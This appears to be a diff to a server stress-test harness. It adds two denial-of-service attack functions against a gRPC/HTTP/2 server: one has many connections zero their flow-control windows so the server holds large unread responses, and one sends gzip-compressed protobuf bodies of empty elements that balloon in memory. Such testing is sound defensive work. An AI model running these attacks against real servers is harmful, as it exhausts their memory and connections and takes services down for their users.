@@ -361,6 +361,21 @@ def unread_responses(port, seconds):
 
 
 @attack
+def unread_responses_of_many_connections(port, seconds):
+    """Each holds less than one may, all together many times what the server may."""
+    call = message(simple_request(1 << 20))
+
+    def begin(peer):
+        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
+        for index in range(8):
+            peer.send(
+                headers(stream(index))
+                + DataFrame(stream(index), call, flags=["END_STREAM"]).serialize())
+
+    return held(hold(port, seconds, begin, count=80))
+
+
+@attack
 def connection_storm(port, seconds):
     """Connections come and go as fast as they can."""
     until = time.monotonic() + seconds
@@ -409,6 +424,14 @@ def compression_bomb(port, seconds):
     bomb = gzip.compress(bytes(8 << 20))
     block = section(request_fields(more=(("grpc-encoding", "gzip"),)))
     return calls(port, seconds, block, message(bomb, compressed=True))
+
+
+@attack
+def empty_elements(port, seconds):
+    """Two bytes each, and a hundred times as much in memory."""
+    block = section(request_fields("StreamingOutputCall", more=(("grpc-encoding", "gzip"),)))
+    body = message(gzip.compress(b"\x12\x00" * 2_000_000), compressed=True)
+    return calls(port, seconds, block, body)
 
 
 @attack
